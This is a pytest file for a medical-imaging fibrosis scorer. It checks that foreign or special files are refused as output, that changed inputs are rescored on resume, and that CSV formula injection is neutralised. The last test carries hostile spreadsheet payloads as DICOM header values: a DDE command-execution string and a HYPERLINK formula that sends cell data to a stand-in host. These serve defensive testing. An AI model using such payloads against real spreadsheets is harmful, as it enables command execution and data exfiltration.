"""Score output and resume against hostile situations.

Item 2: ``--out`` naming a file that is not a score file (a DICOM, a labels CSV without a final
newline) must leave it byte-identical and be refused -- the torn-line repair of a resumed run
used to cut its "last line" first. Item 6: a file whose content changed under the same path since
its row was written is scored again; its old row (and content hash) must not survive.
"""
from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest

from helpers.dicom_factory import chest_phantom, make_dicom, to_stored
from helpers.scores import score_row, write_scores
from fibrosis.score import run as S
from fibrosis.score import output as IO
from fibrosis.config import IngestConfig
from fibrosis.data.labels import load_labels


def _read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as fh:
        return list(csv.DictReader(fh))


def _labels_csv(path: Path) -> Path:
    path.write_bytes(b"image,fibrosis\na.dcm,1\nb.dcm,0")  # no final newline
    return path


# ---------------------------------------------------------------- item 2, unit level


def test_a_foreign_file_is_refused_byte_for_byte_unchanged(tmp_path):
    dcm = make_dicom(tmp_path / "x.dcm", to_stored(chest_phantom(40, 40), 12), bits_stored=12)
    labels = _labels_csv(tmp_path / "labels.csv")
    for f in (dcm, labels):
        before = f.read_bytes()
        assert not before.endswith(b"\n")  # the old repair would have cut its tail
        with pytest.raises(ValueError, match=r"does not start with the fibrosis score header.*left unchanged"):
            IO.open_for_resume(f, "m1")
        assert f.read_bytes() == before
    # the labels CSV itself still reads in full: its last row has no newline and is kept
    assert sorted(k[0] for k in load_labels(labels, "fibrosis").by_path) == ["a.dcm", "b.dcm"]


def test_a_torn_header_or_device_is_refused_too(tmp_path):
    torn = tmp_path / "torn.csv"
    torn.write_text("path,status,sop_uid")  # a prefix of our header is still not our header
    with pytest.raises(ValueError, match="left unchanged"):
        IO.open_for_resume(torn, "m1")
    assert torn.read_text() == "path,status,sop_uid"
    with pytest.raises(ValueError, match="not a regular file: a character device"):
        IO.open_for_resume(Path("/dev/null"), "m1")


def test_merge_keeps_the_newest_row_of_a_path(tmp_path):
    """A file scored again after it changed: the rank part's new row wins over the merged output's
    old row, and a row appended after its old one in the same file wins at re-sorting."""
    out = write_scores(tmp_path / "out.csv", [score_row("/a"), score_row("/d", content_hash="old", logit_uncalibrated="1.0")])
    part = write_scores(tmp_path / "out.csv.rank0", [score_row("/d", content_hash="new", logit_uncalibrated="2.0")])
    assert IO.merge_parts(out, [part]) == 2
    assert [(r["path"], r["content_hash"], r["logit_uncalibrated"]) for r in _read(out)] == [
        ("/a", "", "0.0"), ("/d", "new", "2.0")]
    one = write_scores(tmp_path / "one.csv", [score_row("/a", content_hash="old"), score_row("/b"), score_row("/a", content_hash="new")])
    IO.sort_in_place(one)
    assert [(r["path"], r["content_hash"]) for r in _read(one)] == [("/a", "new"), ("/b", "")]


# ---------------------------------------------------------------- end to end


@pytest.fixture(scope="module")
def ckpt(tmp_path_factory) -> Path:
    from helpers.checkpoints import make_checkpoint

    return make_checkpoint(tmp_path_factory.mktemp("run") / "best.pt",
                           ingest=IngestConfig(image_size=32, min_side=1))


@pytest.fixture
def folder(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("FIBROSIS_SALT", "test-salt")
    d = tmp_path / "in"
    d.mkdir()
    for i in range(3):
        make_dicom(d / f"im{i}.dcm", to_stored(chest_phantom(64, 56, seed=i), 12), bits_stored=12,
                   sop_uid=f"1.2.826.0.1.3680043.10.77.{i}", study_uid="1.2.826.0.1.3680043.10.76.1")
    return d


def _score(ckpt: Path, inputs: Path, out: Path, **kw) -> S.ScoreSummary:
    return S.score(ckpt.parent, inputs, out, device="cpu", progress=False, **kw)


def test_score_refuses_an_existing_dicom_or_labels_csv_as_out(ckpt, folder, tmp_path):
    for target in (make_dicom(tmp_path / "study.dcm", to_stored(chest_phantom(40, 40), 12), bits_stored=12),
                   _labels_csv(tmp_path / "labels.csv")):
        before = target.read_bytes()
        with pytest.raises(ValueError, match="left unchanged"):
            _score(ckpt, folder, target)
        assert target.read_bytes() == before


def test_score_refuses_a_foreign_file_where_the_studies_csv_goes(ckpt, folder, tmp_path):
    foreign = _labels_csv(tmp_path / "scores.studies.csv")
    with pytest.raises(ValueError, match="left unchanged"):
        _score(ckpt, folder, tmp_path / "scores.csv")
    assert foreign.read_bytes() == b"image,fibrosis\na.dcm,1\nb.dcm,0"
    assert not (tmp_path / "scores.csv").exists()


@pytest.mark.parametrize("workers", [1, 2])
def test_resume_scores_a_changed_file_again(ckpt, folder, tmp_path, workers):
    out = tmp_path / "scores.csv"
    first = _score(ckpt, folder, out, workers=workers)
    assert first.counts == {"ok": 3}
    old = {Path(r["path"]).name: r for r in _read(out)}
    # same path, other content (an export overwritten in place)
    changed = make_dicom(folder / "im1.dcm", to_stored(chest_phantom(64, 56, seed=9), 12), bits_stored=12,
                         sop_uid="1.2.826.0.1.3680043.10.77.1", study_uid="1.2.826.0.1.3680043.10.76.1")
    again = _score(ckpt, folder, out, workers=workers)
    assert again.resumed == 2 and again.counts == {"ok": 1}  # only the changed file is scored
    rows = _read(out)
    assert [Path(r["path"]).name for r in rows] == ["im0.dcm", "im1.dcm", "im2.dcm"]  # one row each
    new = {Path(r["path"]).name: r for r in rows}
    assert new["im1.dcm"]["content_hash"] == hashlib.sha256(changed.read_bytes()).hexdigest()
    assert new["im1.dcm"]["content_hash"] != old["im1.dcm"]["content_hash"]
    assert new["im1.dcm"]["logit_uncalibrated"] != old["im1.dcm"]["logit_uncalibrated"]
    assert new["im0.dcm"] == old["im0.dcm"] and new["im2.dcm"] == old["im2.dcm"]
    # identical to scoring the new state from scratch
    fresh = tmp_path / "fresh.csv"
    _score(ckpt, folder, fresh, workers=workers)
    assert fresh.read_bytes() == out.read_bytes()
    assert fresh.with_suffix(".studies.csv").read_bytes() == out.with_suffix(".studies.csv").read_bytes()


# ---------------------------------------------------------------- every side file, and what cells hold

def _raw_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


@pytest.mark.parametrize("side", ["scores.csv", "scores.meta.csv", "scores.studies.csv"])
def test_a_fifo_at_any_side_file_is_refused_not_waited_on(ckpt, folder, tmp_path, side):
    import os

    from helpers.processes import deadline

    os.mkfifo(tmp_path / side)
    with deadline(20, f"score blocked on the FIFO at {side}"):
        with pytest.raises(ValueError, match=rf"{side}: not a regular file: a FIFO \(named pipe\)"):
            _score(ckpt, folder, tmp_path / "scores.csv")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "in") == [side]  # nothing written beside it


def test_header_values_a_spreadsheet_would_run_reach_no_score_file_as_formulas(ckpt, tmp_path, monkeypatch):
    """Formulas in ViewPosition and Manufacturer: the view is no view code (written as a
    placeholder), the manufacturer a valid name, written with its formula neutralised."""
    from fibrosis.io import FORMULA_START, read_csv

    monkeypatch.setenv("FIBROSIS_SALT", "test-salt")
    d = tmp_path / "in"
    d.mkdir()
    vendor = "=cmd|' /C calc'!A0"
    make_dicom(d / "x.dcm", to_stored(chest_phantom(64, 56), 12), bits_stored=12, Manufacturer=vendor,
               view='=HYPERLINK("http://x.invalid/?"&A1)', study_uid="1.2.826.0.1.3680043.10.76.9")
    out = tmp_path / "scores.csv"
    assert _score(ckpt, d, out).counts == {"ok": 1}
    for f in (out, out.with_name("scores.meta.csv"), out.with_name("scores.studies.csv")):
        cells = _raw_cells(f)
        assert not [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("+-").replace(".", "").isdigit()], f
        assert "HYPERLINK" not in f.read_text()
    (meta,) = read_csv(out.with_name("scores.meta.csv"))
    assert meta["manufacturer"] == vendor and meta["view_position"] == "<invalid>"  # read back as written
